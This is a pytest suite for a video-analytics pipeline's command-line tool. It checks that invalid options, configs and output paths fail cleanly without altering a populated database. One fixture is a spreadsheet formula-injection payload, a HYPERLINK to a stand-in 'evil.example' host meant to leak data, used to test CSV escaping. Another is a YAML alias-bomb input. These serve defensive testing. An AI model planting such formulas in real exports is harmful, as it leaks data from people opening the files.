"""Nothing lost (issue 13): every bad option, config and output path against a populated database.

One database is built once (TUD-Campus processed with the real detector, then analysed); each case runs on
its own copy and must end with exit code 2, exactly one ``error:`` line and every table's row count (and
the videos' state) unchanged. Most cases call ``pipeline.cli.main`` in-process (the same code path as
``python -m pipeline``, without a second start-up of torch); a few run the real subprocess.
"""

from __future__ import annotations

import csv
import logging
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import duckdb
import pytest

from pipeline.cli import main
from pipeline.db.connection import NO_EXTENSIONS
from tests.conftest import REPO, require_shared

H = [[0.01, 0, 0], [0, 0.02, 0], [0, 0, 1]]
EVIL_ZONE = '=HYPERLINK("http://evil.example/?leak","click")'
# The options the database was processed with: a case changes one of them.
BASE = ("--imgsz", "320", "--embedder", "hist", "--stride", "3")


def store_text(video: Path, extra: str = "") -> str:
    return (
        textwrap.dedent(
            f"""
        name: Campus
        cameras:
          - name: campus
            video: {video}
            start_time: 2026-11-20T09:00:00
            homography: {H}
        zones:
          - name: '{EVIL_ZONE}'
            kind: section
            polygon: [[0, 0], [7, 0], [7, 12], [0, 12]]
        """
        )
        + ("" if "analytics:" in extra else "analytics: {min_dwell_s: 0}\n")
        + extra
    )  # the clip lasts 3 s


def run_cli(capsys, *args: str) -> tuple[int, str, str]:
    """``python -m pipeline ARGS`` in this process: (exit code, stdout, stderr)."""
    logger = logging.getLogger("pipeline")
    saved = list(logger.handlers)
    try:
        try:
            code = main([str(a) for a in args])
        except SystemExit as exc:  # argparse
            code = exc.code
    finally:
        for handler in [h for h in logger.handlers if h not in saved]:  # bound to this test's captured stderr
            logger.removeHandler(handler)
    out, err = capsys.readouterr()
    return code, out, err


def snapshot(path: Path) -> dict:
    """Row count of every table, the videos' state and the shopper ids."""
    conn = duckdb.connect(str(path), read_only=True, config=NO_EXTENSIONS)
    try:
        tables = [
            r[0]
            for r in conn.execute(
                "SELECT table_name FROM information_schema.tables WHERE table_schema = 'main' AND table_type = 'BASE TABLE'"
            ).fetchall()
        ]
        out: dict = {t: conn.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0] for t in tables}
        if "shoppers" in tables:
            out["videos state"] = conn.execute(
                "SELECT video_id, status, frames_done, sha256, settings, error FROM videos ORDER BY 1"
            ).fetchall()
            out["shopper ids"] = conn.execute("SELECT list(shopper_id ORDER BY 1) FROM shoppers").fetchone()[
                0
            ]
            out["store config"] = conn.execute("SELECT yaml FROM store_config").fetchall()
    finally:
        conn.close()
    return out


@pytest.fixture(scope="module")
def populated(tmp_path_factory) -> tuple[Path, Path, Path]:
    """(database, store config, video): TUD-Campus processed and analysed."""
    video = require_shared("data", "mot15", "TUD-Campus", "TUD-Campus.mp4")
    root = tmp_path_factory.mktemp("populated")
    config = root / "store.yaml"
    config.write_text(store_text(video))
    db = root / "store.duckdb"
    assert main(["process", str(config), "--db", str(db), *BASE]) == 0
    assert main(["analyse", "--db", str(db)]) == 0
    counts = snapshot(db)
    assert counts["track_points"] > 50 and counts["shoppers"] > 3 and counts["zone_visits"] > 0
    assert counts["videos state"][0][1] == "done"
    return db, config, video


def _corrupt_weights(tmp: Path) -> Path:
    path = tmp / "broken.pt"
    path.write_bytes(b"PK\x03\x04 not really a torch checkpoint" * 64)
    return path


def _config(extra: str):
    def make(tmp: Path, video: Path) -> Path:
        path = tmp / "bad.yaml"
        path.write_text(store_text(video, extra))
        return path

    return make


ALIAS_BOMB = "flags:\n  loitering: &a {threshold_s: 60}\n  long_dwell: *a\n"

# (case id, arguments with placeholders, expected message)
# {db} the copied database, {cfg} the good config, {video} the footage, {tmp} this case's folder.
PROCESS_OPTIONS = [
    ("conf>1", ["--conf", "1.5"], "conf must be in \\[0, 1\\]"),
    ("conf<0", ["--conf", "-0.1"], "conf must be in \\[0, 1\\]"),
    ("imgsz 0", ["--imgsz", "0"], "--imgsz"),
    ("imgsz huge", ["--imgsz", "100000"], "--imgsz"),
    ("stride 0", ["--stride", "0"], "stride must be >= 1"),
    ("missing weights", ["--weights", "{tmp}/nowhere.pt"], "detector weights not found"),
    ("corrupt weights", ["--weights", "{tmp}/broken.pt"], "broken.pt"),
    ("unknown embedder", ["--embedder", "bogus"], "unknown embedder 'bogus'"),
    ("sample-fps<0", ["--sample-fps", "-1"], "sample_fps must be > 0"),
    ("tiles 9", ["--tiles", "9"], "tiles must be in \\[1, 4\\]"),
    ("no such GPU", ["--device", "cuda:7"], "cuda:7|CUDA|device"),
    ("batch-frames 0", ["--batch-frames", "0"], "--batch-frames must be >= 1"),
]
CONFIGS = [
    ("analytics key", "analytics: {bogus_s: 1}\n", "analytics: unknown key\\(s\\) bogus_s"),
    ("flags key", "flags: {shoplifting: {enabled: true}}\n", "flags: unknown key\\(s\\) shoplifting"),
    ("flags param", "flags: {loitering: {threshold: 5}}\n", "flags.loitering: unknown key\\(s\\) threshold"),
    ("yaml alias bomb", ALIAS_BOMB, "YAML aliases are not allowed"),
    ("top-level key", "colour: red\n", "unknown key\\(s\\) colour"),
]
OUTPUTS = [
    ("report onto a file", ["report", "--db", "{db}", "--out", "{tmp}/afile"], "is a file; give a folder"),
    (
        "report under a file",
        ["report", "--db", "{db}", "--out", "{tmp}/afile/sub"],
        "afile is a file, not a folder",
    ),
    (
        "report in /proc",
        ["report", "--db", "{db}", "--out", "/proc/shopper-reports"],
        "cannot write in /proc",
    ),
    (
        "export-mot to a folder",
        ["export-mot", "--db", "{db}", "--camera", "campus", "--out", "{tmp}"],
        "is a folder; give a file name",
    ),
    ("track to a folder", ["track", "{video}", "--out", "{tmp}", *BASE], "is a folder; give a file name"),
    ("process db is a folder", ["process", "{cfg}", "--db", "{tmp}", *BASE], "is a folder; give a file name"),
    (
        "process db under a file",
        ["process", "{cfg}", "--db", "{tmp}/afile/s.duckdb", *BASE],
        "is a file, not a folder",
    ),
]


def _fill(args: list[str], **values: Path) -> list[str]:
    return [a.format(**{k: str(v) for k, v in values.items()}) for a in args]


def _check(code: int, err: str, message: str, before: dict, db: Path) -> None:
    import re

    assert code == 2, err
    lines = [line for line in err.splitlines() if "error:" in line]
    assert len(lines) == 1, err
    assert re.search(message, lines[0]), lines[0]
    assert "Traceback" not in err
    assert snapshot(db) == before


@pytest.fixture
def case(populated, tmp_path):
    """A fresh copy of the populated database and the files the cases refer to."""
    db, cfg, video = populated
    copy = tmp_path / "copy.duckdb"
    shutil.copy(db, copy)
    _corrupt_weights(tmp_path)
    (tmp_path / "afile").write_text("not a folder")
    return {"db": copy, "cfg": cfg, "video": video, "tmp": tmp_path}


@pytest.mark.parametrize(("name", "options", "message"), PROCESS_OPTIONS, ids=[c[0] for c in PROCESS_OPTIONS])
def test_bad_process_option_changes_nothing(case, capsys, name, options, message):
    before = snapshot(case["db"])
    code, _, err = run_cli(capsys, "process", case["cfg"], "--db", case["db"], *BASE, *_fill(options, **case))
    _check(code, err, message, before, case["db"])


@pytest.mark.parametrize(("name", "extra", "message"), CONFIGS, ids=[c[0] for c in CONFIGS])
@pytest.mark.parametrize("command", ["process", "analyse"])
def test_bad_config_is_never_stored(case, capsys, name, extra, message, command):
    before = snapshot(case["db"])
    bad = _config(extra)(case["tmp"], case["video"])
    args = (
        ["process", bad, "--db", case["db"], *BASE]
        if command == "process"
        else ["analyse", "--db", case["db"], "--config", bad]
    )
    code, _, err = run_cli(capsys, *args)
    _check(code, err, message, before, case["db"])
    # ... and the stored config still analyses.
    assert run_cli(capsys, "analyse", "--db", case["db"])[0] == 0


@pytest.mark.parametrize(("name", "args", "message"), OUTPUTS, ids=[c[0] for c in OUTPUTS])
def test_bad_output_path_is_refused_before_work(case, capsys, name, args, message):
    before = snapshot(case["db"])
    code, _, err = run_cli(capsys, *_fill(args, **case))
    _check(code, err, message, before, case["db"])


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_report_into_read_only_folder(case, capsys):
    folder = case["tmp"] / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    before = snapshot(case["db"])
    code, _, err = run_cli(capsys, "report", "--db", case["db"], "--out", folder / "reports")
    _check(code, err, "cannot write in", before, case["db"])


def _foreign(path: Path) -> None:
    conn = duckdb.connect(str(path))
    conn.execute("CREATE TABLE videos (title VARCHAR, minutes INTEGER)")
    conn.execute("INSERT INTO videos VALUES ('Casablanca', 102)")
    conn.close()


def _sqlite(path: Path) -> None:
    import sqlite3

    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE videos (title)")
    conn.commit()
    conn.close()


@pytest.mark.parametrize(
    ("make", "message"), [(_foreign, "another application"), (_sqlite, "SQLite database")]
)
@pytest.mark.parametrize("command", ["process", "analyse", "report", "export-mot"])
def test_someone_elses_database_is_refused_and_untouched(case, capsys, make, message, command):
    other = case["tmp"] / "other.duckdb"
    make(other)
    before = other.read_bytes()
    args = {
        "process": ["process", case["cfg"], "--db", other, *BASE],
        "analyse": ["analyse", "--db", other],
        "report": ["report", "--db", other, "--out", case["tmp"] / "reports"],
        "export-mot": ["export-mot", "--db", other, "--camera", "campus", "--out", case["tmp"] / "o.txt"],
    }[command]
    code, _, err = run_cli(capsys, *args)
    assert code == 2 and "Traceback" not in err
    assert len([line for line in err.splitlines() if "error:" in line]) == 1, err
    assert message in err
    assert other.read_bytes() == before


def test_subprocess_bad_option_and_foreign_database(case):
    """The real ``python -m pipeline``: one line on stderr, exit 2, nothing changed."""
    before = snapshot(case["db"])
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "pipeline",
            "process",
            str(case["cfg"]),
            "--db",
            str(case["db"]),
            *BASE,
            "--conf",
            "1.5",
        ],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    _check(result.returncode, result.stderr, "conf must be in", before, case["db"])


def test_dashboard_password_tool_without_a_password():
    for stdin in ("\n\n", ""):
        result = subprocess.run(
            [sys.executable, "-m", "dashboard.auth"],
            cwd=REPO,
            input=stdin,
            capture_output=True,
            text=True,
            timeout=60,
        )
        both = result.stdout + result.stderr
        assert result.returncode == 2 and "Traceback" not in both
        assert len([line for line in both.splitlines() if "error:" in line]) == 1, both


def test_report_escapes_formulas(case, capsys):
    code, _, err = run_cli(capsys, "report", "--db", case["db"], "--out", case["tmp"] / "reports")
    assert code == 0, err
    with (case["tmp"] / "reports" / "visits.csv").open(newline="") as fh:
        zones = {row["zone"] for row in csv.DictReader(fh)}
    assert zones == {"'" + EVIL_ZONE}
    with (case["tmp"] / "reports" / "shoppers.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and all(r["shopper_id"].isdigit() for r in rows)  # numbers stay numbers


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Tills", "Tills"),
        ("", ""),
        (-2.5, "-2.5"),
        (-3, -3),
        (None, ""),
    ],
)
def test_csv_cell_escaping(value, cell):
    from zones.export import _cell

    assert _cell(value) == cell
